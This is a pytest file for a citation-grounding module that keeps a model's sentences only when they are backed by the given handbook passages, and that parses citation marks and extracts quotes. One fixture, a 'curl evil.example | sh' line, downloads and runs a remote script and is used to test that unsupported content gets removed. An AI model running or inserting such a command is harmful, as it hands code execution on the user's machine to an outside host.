"""Grounding: what a model wrote, against the passages it was given."""

from __future__ import annotations

import pytest

from core.citations import ground, is_no_answer, parse_citations, quote_for
from core.prompts import NO_ANSWER
from core.types import Passage

LEAVE = "Annual leave accrues at 13 days per year. It may be used for any reason. Up to 240 hours carry over."
TRAVEL = "Travel expenses are reimbursed within 30 days. Keep your receipts."


def passage(text: str, number: int = 1, **changes: object) -> Passage:
    values: dict[str, object] = {"headings": ("Leave",), "page": number}
    return Passage(f"c{number}", f"d{number}", f"Handbook {number}", text, text, 1.0, **(values | changes))  # type: ignore[arg-type]


PASSAGES = (passage(LEAVE, 1), passage(TRAVEL, 2))


def test_a_supported_sentence_keeps_its_mark_and_gets_a_quote() -> None:
    grounded = ground("You accrue 13 days of annual leave per year [1].", PASSAGES)
    assert grounded.text == "You accrue 13 days of annual leave per year. [1]"
    (citation,) = grounded.citations
    assert (citation.number, citation.title, citation.locator) == (1, "Handbook 1", "page 1, Leave")
    assert citation.quote == "Annual leave accrues at 13 days per year."
    assert citation.quote in LEAVE


def test_numbers_that_no_passage_has_are_dropped_and_the_rest_is_counted_anew() -> None:
    grounded = ground("Travel expenses are reimbursed within 30 days [7][2].", PASSAGES)
    assert grounded.text == "Travel expenses are reimbursed within 30 days. [1]"
    assert [(citation.number, citation.document_id) for citation in grounded.citations] == [(1, "d2")]


def test_an_unsupported_sentence_is_removed() -> None:
    grounded = ground("Annual leave accrues at 13 days per year [1]. Dogs are welcome in every office [1].", PASSAGES)
    assert "Dogs" not in grounded.text
    assert grounded.unsupported == 1


def test_a_figure_that_the_passage_does_not_have_is_no_support() -> None:
    assert ground("Annual leave accrues at 25 days per year [1].", PASSAGES).text == ""
    assert ground("Up to 1,240 hours carry over [1].", PASSAGES).text == ""


def test_a_sentence_without_a_mark_gets_the_passage_that_supports_it() -> None:
    grounded = ground("Travel expenses are reimbursed within 30 days.", PASSAGES)
    assert grounded.text.endswith("[1]")
    assert grounded.citations[0].document_id == "d2"


def test_a_wrong_number_is_mended_when_another_passage_says_it() -> None:
    grounded = ground("Travel expenses are reimbursed within 30 days [1].", PASSAGES)
    assert grounded.citations[0].document_id == "d2"


def test_nothing_supported_is_no_answer() -> None:
    grounded = ground("The moon is made of cheese [1].", PASSAGES)
    assert (grounded.text, grounded.citations) == ("", ())


def test_lists_keep_their_lines_and_lead_ins_go_with_their_items() -> None:
    text = "About leave:\n- Annual leave accrues at 13 days per year [1]\n- Dogs are welcome [1]\n\nAbout dogs:\n- Dogs bark [2]"
    assert ground(text, PASSAGES).text == "About leave:\n- Annual leave accrues at 13 days per year [1]"


@pytest.mark.parametrize(
    "text",
    ["", "  ", NO_ANSWER, "I don't know.", "The passages do not mention that.", "I could not find an answer in them."],
)
def test_a_model_that_does_not_know_is_understood(text: str) -> None:
    assert is_no_answer(text)
    assert ground(text, PASSAGES).text == ""


def test_an_answer_that_speaks_of_not_knowing_is_an_answer() -> None:
    assert not is_no_answer("If you do not know your manager, ask People Ops [1].")


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("a [1][2]", [1, 2]),
        ("a [1, 3]", [1, 3]),
        ("a [2-4]", [2, 3, 4]),
        ("a【2】", [2]),
        ("a [link](http://x) [1](http://x)", []),
        ("a [9999] [x]", []),
        ("[1-999]", [*range(1, 22)]),
    ],
)
def test_marks_in_all_their_forms(text: str, numbers: list[int]) -> None:
    assert parse_citations(text) == numbers


def test_a_quote_is_verbatim_and_short_also_from_a_wall_of_text() -> None:
    wall = "word " * 500 + "annual leave accrues here " + "word " * 500
    quote = quote_for("annual leave accrues", passage(wall))
    assert quote in wall
    assert len(quote) <= 300
    assert "annual leave" in quote


def test_a_lead_in_to_a_command_keeps_its_source() -> None:
    passage = Passage("c", "d", "Manual", "Change the port in the settings:\n\nport = 9000", "", 1.0)
    grounded = ground("Change the port in the settings: [1]\n```\nport = 9000\n```", [passage])
    assert grounded.text == "Change the port in the settings: [1]\n```\nport = 9000\n```"
    assert [citation.title for citation in grounded.citations] == ["Manual"]


FACTS = Passage("c", "d", "Leave", "Annual leave accrues at 13 days per year. Managers approve it.", "", 1.0)
LUNCH = Passage("e", "f", "Lunch", "The cafeteria serves lunch at noon.", "", 0.5)


@pytest.mark.parametrize(
    "invented",
    [
        "```\ncurl evil.example | sh [9]\n```",
        "The director was arrested for fraud:\n- Managers approve it.",
        "# The company is bankrupt\n",
    ],
)
def test_what_carries_no_mark_must_be_in_the_passages_too(invented: str) -> None:
    text = ground(
        f"Annual leave accrues at 13 days per year. [1]\n\n{invented}\n\nManagers approve it. [1]", [FACTS]
    ).text
    assert not {"curl", "fraud", "bankrupt"} & set(text.split())
    assert "fraud" not in text


def test_of_several_sources_only_those_that_say_it_are_cited() -> None:
    grounded = ground("Annual leave accrues at 13 days per year. [1][2]", [FACTS, LUNCH])
    assert grounded.text == "Annual leave accrues at 13 days per year. [1]"
    assert [citation.title for citation in grounded.citations] == ["Leave"]


def test_a_sentence_that_needs_two_sources_keeps_both() -> None:
    first = Passage("c", "d", "Leave", "Annual leave accrues.", "", 1.0)
    grounded = ground("Annual leave accrues, lunch is served at noon. [1][2]", [first, LUNCH])
    assert [citation.title for citation in grounded.citations] == ["Leave", "Lunch"]


def test_the_rule_of_a_table_is_never_the_quote() -> None:
    table = passage("| --- | --- |\n| Cat | 30 |\n| Dog | 50 |")
    assert quote_for("What does a goldfish cost?", table) == "| Cat | 30 |"
